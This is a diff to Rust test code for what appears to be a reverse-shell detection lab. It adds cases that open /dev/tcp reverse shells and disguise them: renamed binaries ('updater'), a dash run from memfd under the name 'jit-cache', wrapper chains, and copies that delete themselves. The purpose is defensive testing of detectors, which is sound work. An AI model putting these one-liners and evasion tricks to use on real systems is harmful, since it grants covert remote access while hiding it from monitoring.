@@ -30,6 +30,17 @@ fn without_file(lab: &Lab<'_>, mut peer: Peer, path: impl Fn(&str) -> bool) -> R
     lab.ended(&finding)
 }
 
+/// A shell whose commands have come before it is started, and which is gone before anybody can look at it.
+fn gone_at_once(lab: &Lab<'_>, command: &str, file: &Path) -> Result<()> {
+    let script = format!("exec 5<>/dev/tcp/$H/$P; read go <&5; {command} <&5 >&5 2>&5; true");
+    let mut peer = lab.connected(&script, file)?;
+    peer.send("go\necho uid=$((40+2))\nexit\n")?;
+    peer.read_until("uid=42")?;
+    let finding = lab.finding(peer.ends(), REVERSE)?;
+    lab.ended(&finding)?;
+    Ok(())
+}
+
 pub fn cases() -> Vec<Case> {
     vec![
         Case::new("identity::renamed_bash", &["bash"], |lab| {
@@ -141,6 +152,30 @@ s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
             ensure!(!copy.exists(), "the file is still there");
             Ok(())
         }),
+        Case::new("identity::renamed_and_gone_at_once", &["dash"], |lab| {
+            let copy = lab.copy("dash", "updater")?;
+            for _ in 0..20 {
+                gone_at_once(lab, "$X", &copy)?;
+            }
+            Ok(())
+        }),
+        Case::new("identity::memfd_and_gone_at_once", &["gcc"], |lab| {
+            let script = r#"/usr/bin/python3 -c 'import os
+m=os.memfd_create("jit-cache",0); os.write(m,open("/bin/dash","rb").read()); os.execv("/proc/self/fd/%d" % m,["x"])'"#;
+            for _ in 0..20 {
+                gone_at_once(lab, script, Path::new("/"))?;
+            }
+            Ok(())
+        }),
+        // Wrappers come first on the connection; what counts is the shell that they start.
+        Case::new(
+            "identity::started_by_wrappers",
+            &["env", "nice", "timeout", "setsid"],
+            |lab| {
+                let script = "exec 5<>/dev/tcp/$H/$P; exec env -i nice -n 1 timeout 600 setsid -w $X <&5 >&5 2>&5";
+                disguised(lab, script, &lab.copy("bash", "updater")?)
+            },
+        ),
         Case::new("identity::deletes_itself", &["bash"], |lab| {
             let copy = lab.copy("bash", "once")?;
             let mut peer = lab.connected(WIRED, &copy)?;
